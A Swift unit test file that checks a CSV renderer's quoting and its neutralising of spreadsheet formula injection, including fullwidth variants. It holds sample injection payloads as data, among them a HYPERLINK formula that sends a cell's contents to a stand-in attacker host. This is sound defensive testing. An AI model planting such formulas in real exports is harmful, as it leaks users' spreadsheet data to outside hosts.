import NIOCore
import XCTest

@testable import CleanStore
@testable import CleanStoreTestSupport

final class CSVRenderingTests: XCTestCase {
    func csv(_ cells: [String]) -> String {
        var buffer = ByteBuffer()
        CSVRendering.append(row: cells, to: &buffer)
        return String(buffer: buffer)
    }

    func testRFC4180QuotesOnlyWhatNeedsItAndEndsEachRowWithCRLF() {
        XCTAssertEqual(csv(["1", "Amy", ""]), "1,Amy,\r\n")
        XCTAssertEqual(csv(["Apple, Inc.", "say \"hi\"", "two\nlines", "cr\rhere"]), "\"Apple, Inc.\",\"say \"\"hi\"\"\",\"two\nlines\",\"cr\rhere\"\r\n")
        XCTAssertEqual(csv(["José Núñez", "東京"]), "José Núñez,東京\r\n", "UTF-8 as it is")
        XCTAssertEqual(csv([]), "\r\n")
    }

    /// OWASP CSV injection: a cell a spreadsheet would run as a formula is shown as text.
    func testCellsThatASpreadsheetWouldRunAreNeutralised() {
        XCTAssertEqual(
            csv(["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"]), "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"\r\n")
        for (cell, expected) in [
            ("+1 555 0100", "'+1 555 0100"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\tcmd", "'\tcmd"),
            ("=1+1", "'=1+1"), ("a=b", "a=b"), ("O'Brien", "O'Brien"), ("", ""),
        ] {
            XCTAssertEqual(CSVRendering.neutralised(cell), expected, cell)
        }
        XCTAssertEqual(csv(["\rcmd"]), "\"'\rcmd\"\r\n", "Neutralised, then quoted for its CR")
    }

    /// Issue 25: the fullwidth and small forms of `= + - @`, which NFKC reads as the ASCII ones.
    func testFullwidthAndSmallFormsOfAFormulasFirstCharacterAreNeutralisedToo() {
        for cell in [
            "＝HYPERLINK(\"http://evil.example\")", "﹦1+1", "＋1 555 0100", "﹢1", "－2+3", "﹣2+3", "＠SUM(A1:A9)", "﹫SUM(A1:A9)",
            "=\u{301}1+1",
        ] {
            XCTAssertEqual(CSVRendering.neutralised(cell), "'" + cell, cell)
        }
        for cell in ["a＝b", "José", "１２", "O'Brien", "–2 (an en dash)", "—"] {
            XCTAssertEqual(CSVRendering.neutralised(cell), cell, cell)
        }
    }
}
